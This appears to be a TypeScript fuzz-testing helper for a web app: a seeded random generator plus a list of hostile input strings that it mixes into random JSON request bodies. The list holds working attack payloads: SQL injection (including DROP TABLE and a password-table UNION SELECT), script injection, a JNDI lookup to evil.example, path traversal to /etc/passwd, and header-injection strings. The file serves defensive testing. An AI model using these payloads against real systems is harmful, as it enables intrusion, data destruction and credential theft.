/** A small seeded PRNG, so a failing fuzz run can be replayed with the same FUZZ_SEED. */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Strings that have broken web apps: injection, markup, encodings, paths, formats and sizes. */
export const HOSTILE_STRINGS = [
  "",
  " ",
  "' OR '1'='1' --",
  '1; DROP TABLE "User"; --',
  "admin'/*",
  '" UNION SELECT password FROM "PasswordCredential" --',
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "javascript:alert(1)",
  "{{7*7}}${7*7}<%= 7*7 %>",
  "${jndi:ldap://evil.example/a}",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%00%2e%2e%2f",
  "a\u0000b",
  "\ud800",
  "\u202e\u0645\u0631\u062d\u0628\u0627 \ud83d\ude00 \ud835\udd4f",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d",
  "x".repeat(5000),
  "🙂".repeat(300),
  "9999-99-99",
  "2026-02-30",
  // A future day the calendar does not have: past the "earliest date" checks that a past one stops at.
  "2031-02-30",
  "-1",
  "1e309",
  "0x7fffffff",
  "NaN",
  "null",
  "undefined",
  "true",
  "[object Object]",
  "__proto__",
  "constructor",
  "//evil.example",
  "https://evil.example/phish",
  "/\\evil.example",
  "\t//evil.example",
  "user@evil.example\r\nBcc: victim@example.test",
  "USD\r\nSet-Cookie: a=b",
  "eur",
  "XTS", // ISO 4217 reserves it for testing: a well-formed currency code no site offers
  "en-US",
  "ar-SA\u0000",
];

const HOSTILE_NUMBERS = [0, -1, -0.5, 1.5, 2 ** 31, 2 ** 53 + 1, -(2 ** 63), 1e308, Number.MIN_VALUE];

/** One hostile JSON value: a string, number, boolean, null, array or nested object, up to depth 3. */
export function hostileValue(rand: () => number, fields: string[], depth: number): unknown {
  const r = rand();
  if (r < 0.5) return HOSTILE_STRINGS[Math.floor(rand() * HOSTILE_STRINGS.length)];
  if (r < 0.65) return HOSTILE_NUMBERS[Math.floor(rand() * HOSTILE_NUMBERS.length)];
  if (r < 0.72) return rand() < 0.5;
  if (r < 0.78) return null;
  if (r < 0.88 || depth >= 3) return Array.from({ length: Math.floor(rand() * 4) }, () => (depth >= 3 ? "x" : hostileValue(rand, fields, depth + 1)));
  return randomBody(rand, fields, depth + 1);
}

/** An object of 0–7 known field names (and sometimes unknown ones) with hostile values. */
export function randomBody(rand: () => number, fields: string[], depth = 0): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  const n = Math.floor(rand() * 8);
  for (let i = 0; i < n; i++) {
    const name = rand() < 0.9 ? fields[Math.floor(rand() * fields.length)]! : `extra_${Math.floor(rand() * 1000)}`;
    out[name] = hostileValue(rand, fields, depth);
  }
  return out;
}
